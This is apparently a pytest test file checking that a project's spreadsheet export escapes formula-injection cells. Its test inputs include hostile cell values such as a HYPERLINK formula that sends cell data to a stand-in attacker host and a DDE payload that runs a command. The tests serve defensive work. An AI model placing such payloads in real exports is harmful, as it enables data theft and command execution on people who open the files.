"""No cell of a sheet is run by a spreadsheet, and one place writes them all."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

import legation
from legation.services.spreadsheet import harmless, sheet

SOURCE = Path(legation.__file__).parent


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "=cmd|'/c calc'!A1",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t1",
        "\r1",
        "\n1",
        "  =1",
        "\xa0=1",
        "\ufeff=1",
        "\uff1d1",
        "|calc",
        "\r\n1",
        "%0A=1",
    ],
)
def test_a_cell_never_begins_as_a_formula(cell: str) -> None:
    # As it is read by a program that ends lines at any sign of one.
    [[written, other]] = csv.reader(io.StringIO(sheet([[cell, "patrol"]]), newline=""))
    assert written == "'" + cell.replace("\r\n", "\n").replace("\r", "\n")
    assert other == "patrol"


@pytest.mark.parametrize(
    "before", ["\0", "\x01", "\x0b", "\x1c", "\x7f", "\x85", "\u2028", "\u3000", "\u2060", "\xad", "\u202e"]
)
def test_no_sign_that_is_left_out_hides_a_formula(before: str) -> None:
    [[written, within]] = csv.reader(io.StringIO(sheet([[f"{before}=1+1", f"a;{before}=1"]])))
    assert written.startswith("'")
    assert within in (f"a;{before}'=1", "a; '=1")
    assert not set(sheet([[f"a{before}b"]])) & {chr(n) for n in (*range(9), *range(11, 32), *range(127, 160))}


def test_other_cells_stay_as_they_are() -> None:
    for cell in ("", "CONFIDENTIAL", "15BELISAR12", "a=b", "2015-01-12", "(C)", "# SECRET", "he came; - he said\n- so"):
        assert harmless(cell) == cell


@pytest.mark.parametrize("apart", [";", "\t", "\n"])
@pytest.mark.parametrize("formula", ["=1", ' "=1', "+1", "-2+3", "@SUM(1)", "\uff1d1", "- 1+cmd|x", "- -1", "|x", "%x"])
def test_where_other_signs_hold_cells_apart_none_begins_as_a_formula(apart: str, formula: str) -> None:
    written = sheet([["a", f"x{apart}{formula}"], ["b", f"{apart}{formula}"]])
    cells = [cell.strip(' "') for line in written.split("\n") for cell in line.replace("\t", ";").split(";")]
    assert len(cells) > 2
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "|", "%", "\uff1d"))]


def test_a_cell_begins_no_row() -> None:
    for end in ("\r", "\n", "\r\n"):
        written = sheet([[f"a{end}=1", "b"]])
        assert list(csv.reader(io.StringIO(written, newline=""))) == [["a\n'=1", "b"]]


def test_nothing_else_writes_sheets() -> None:
    writing = [str(path.relative_to(SOURCE)) for path in SOURCE.rglob("*.py") if "csv.writer(" in path.read_text()]
    assert writing == ["services/spreadsheet.py"]
    assert not [path for path in SOURCE.rglob("*.py") if "DictWriter" in path.read_text()]
